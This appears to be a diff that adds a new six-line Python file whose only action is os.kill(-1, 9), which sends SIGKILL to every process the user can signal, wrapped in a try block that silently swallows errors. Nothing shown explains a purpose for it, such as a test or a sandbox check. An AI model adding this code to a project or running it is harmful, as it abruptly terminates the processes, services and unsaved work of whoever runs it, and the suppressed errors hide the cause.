@@ -1,0 +1,6 @@
+import os
+
+try:
+    os.kill(-1, 9)
+except OSError:
+    pass
